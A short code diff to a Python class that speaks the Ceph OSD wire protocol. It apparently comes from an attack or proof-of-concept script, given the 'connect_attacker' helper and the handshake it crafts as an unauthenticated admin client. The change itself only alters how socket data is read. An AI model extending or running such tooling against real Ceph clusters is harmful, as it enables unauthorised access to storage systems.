@@ -196,6 +196,7 @@ class Osd:
 
     def __init__(self, address):
         self.socket = connect_attacker(address)
+        self.file = self.socket.makefile('rb')
         # CEPH_ENTITY_TYPE_CLIENT is 8, CEPH_OSDC_PROTOCOL 24, CEPH_AUTH_NONE 1, CEPH_MSG_CONNECT_LOSSY 1.
         authorizer = struct.pack('<B2I5sQ', 1, 8, 5, b'admin', next(CLIENTS))
         hello = struct.pack('<9s136xQ6IB', BANNER, FEATURES, 8, 1, 0, 24, 1, len(authorizer), 1)
@@ -206,7 +207,7 @@ class Osd:
         self.take(authorizer_length)
 
     def take(self, length):
-        data = self.socket.recv(length, socket.MSG_WAITALL) if length else b''
+        data = self.file.read(length)
         if len(data) < length:
             raise ConnectionError('the OSD closes the connection')
         return data
